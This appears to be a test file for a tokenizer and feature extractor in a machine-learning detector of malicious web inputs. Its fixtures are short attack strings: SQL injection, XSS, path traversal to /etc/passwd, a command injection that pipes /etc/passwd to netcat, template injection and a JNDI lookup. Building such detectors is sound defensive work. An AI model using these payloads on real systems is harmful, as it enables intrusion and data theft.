import { describe, expect, it } from 'vitest';
import { DEFAULT_FEATURE_CONFIG, FeatureExtractor, normalizeForCharNgrams } from '../../src/model/features.js';
import { featurizeAll } from '../../src/model/train.js';
import { tokenizePayload } from '../../src/model/tokenize.js';

describe('tokenizePayload', () => {
  it('keeps SQL keywords, operators and comments as tokens and collapses other words to shapes', () => {
    expect(tokenizePayload("1' union select username from users--")).toEqual(['0', "'", 'union', 'select', 'w8', 'from', 'w7', '--']);
    expect(tokenizePayload('admin/**/or/**/1=1#')).toEqual(['w7', '/*', '*/', 'or', '/*', '*/', '0', '=', '0', '#']);
  });

  it('understands markup, event handlers and javascript: URLs', () => {
    expect(tokenizePayload('<img src=x onerror=alert(1)>')).toEqual(['<', 'img', 'src', '=', 'w1', 'on*', '=', 'alert', '(', '0', ')', '>']);
    expect(tokenizePayload('javascript:alert`1`')).toEqual(['javascript', ':', 'alert', '`', '0', '`']);
  });

  it('understands traversal, shell metacharacters, templates and JNDI', () => {
    expect(tokenizePayload('../../etc/passwd')).toEqual(['../', '../', 'etc', '/', 'passwd']);
    expect(tokenizePayload('; cat /etc/passwd | nc x 1')).toEqual([';', 'cat', '/', 'etc', '/', 'passwd', '|', 'nc', 'w1', '0']);
    expect(tokenizePayload('{{7*7}}')).toEqual(['{{', '0', '*', '0', '}}']);
    expect(tokenizePayload('${jndi:ldap://x/a}')).toEqual(['${', 'jndi', ':', 'ldap', ':', '//', 'w1', '/', 'w1', '}']);
  });

  it('keeps escapes meaningful: %27, %u, \\x, line breaks', () => {
    expect(tokenizePayload('%27%20or%201')).toEqual(['%27', '%20', 'or', '%20', '0']);
    expect(tokenizePayload('a\r\nb')).toEqual(['w1', 'NL', 'NL', 'w1']);
    expect(tokenizePayload('\\x3cscript')).toEqual(['\\x', 'script']);
  });

  it('turns hex runs, identifiers with digits and numbers into shapes', () => {
    expect(tokenizePayload('deadbeef0123 user42 3.14 0x41')).toEqual(['hx', 'a7', '0', '0x']);
  });
});

describe('FeatureExtractor', () => {
  const extractor = new FeatureExtractor(DEFAULT_FEATURE_CONFIG);

  it('is deterministic and returns distinct indices inside the hash space', () => {
    const a = extractor.extract("1' OR '1'='1' OR '1'='1").slice();
    const b = new FeatureExtractor(DEFAULT_FEATURE_CONFIG).extract("1' OR '1'='1' OR '1'='1").slice();
    expect(Array.from(a)).toEqual(Array.from(b));
    expect(new Set(a).size).toBe(a.length);
    expect(Math.max(...a)).toBeLessThan(DEFAULT_FEATURE_CONFIG.dim);
  });

  it('gives training (featurizeAll) exactly the features serving computes', () => {
    const texts = ['<script>alert(1)</script>', "O'Brien", 'a=1&b=2', '../../etc/passwd', ''];
    const training = featurizeAll(texts, DEFAULT_FEATURE_CONFIG);
    texts.forEach((t, i) => expect(Array.from(extractor.extract(t))).toEqual(Array.from(training[i])));
  });

  it('is case-insensitive and reads digits by shape', () => {
    expect(Array.from(extractor.extract('UNION SELECT 1'))).toEqual(Array.from(extractor.extract('union select 7')));
    // Repeated calls reuse the scratch buffers and must not leak state between texts.
    const once = Array.from(extractor.extract('<svg onload=alert(1)>'));
    extractor.extract('something else entirely');
    expect(Array.from(extractor.extract('<svg onload=alert(1)>'))).toEqual(once);
    expect(normalizeForCharNgrams('ab 12\t\tc')).toBe('ab 00 c');
  });

  it('only reads the first maxChars characters', () => {
    const cfg = { ...DEFAULT_FEATURE_CONFIG, maxChars: 16 };
    const small = new FeatureExtractor(cfg);
    expect(Array.from(small.extract('a'.repeat(16) + '<script>'))).toEqual(Array.from(small.extract('a'.repeat(16))));
  });

  it('with position features, tells a token opening a value from the same token later on, and adds nothing when off', () => {
    const plain = new FeatureExtractor({ ...DEFAULT_FEATURE_CONFIG, tokenNgrams: 1, charNgrams: [] });
    const positional = new FeatureExtractor({ ...DEFAULT_FEATURE_CONFIG, tokenNgrams: 1, charNgrams: [], positionNgrams: 1 });
    const opening = "' or x";
    const later = "x or '";
    // Same tokens, so the plain unigrams are the same set; the positional ones differ.
    expect(new Set(plain.extract(opening))).toEqual(new Set(plain.extract(later)));
    expect(new Set(positional.extract(opening))).not.toEqual(new Set(positional.extract(later)));
    expect(positional.extract(opening).length).toBeGreaterThan(plain.extract(opening).length);
    expect(Array.from(new FeatureExtractor({ ...DEFAULT_FEATURE_CONFIG, positionNgrams: 0 }).extract(opening))).toEqual(Array.from(extractor.extract(opening)));
  });

  it('rejects a hash space that is not a power of two', () => {
    expect(() => new FeatureExtractor({ ...DEFAULT_FEATURE_CONFIG, dim: 1000 })).toThrow(/power of two/);
  });
});
